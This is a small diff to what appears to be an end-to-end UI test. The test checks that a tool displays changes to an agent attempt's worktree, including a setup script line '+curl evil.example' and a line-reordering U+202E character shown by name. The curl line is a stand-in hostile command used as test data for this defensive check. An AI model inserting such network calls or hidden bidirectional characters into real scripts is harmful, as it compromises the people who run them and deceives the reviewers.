@@ -45,7 +45,7 @@ test("[X16] what changed in an attempt since it was trusted is shown line by lin
   await page.getByText("Showing the worktree of attempt 1 of “Build the setup”.").waitFor();
   const change = page.getByRole("region", { name: "scripts/setup.sh" });
   await change.getByText("+curl evil.example").waitFor();
-  // a character that would reorder the line is shown as what it is
+  // a character that would reorder the line is shown by name
   await change.getByText("U+202E").waitFor();
   await keepScreenshot(page, "trust-changes");
   await expectAccessible(page);
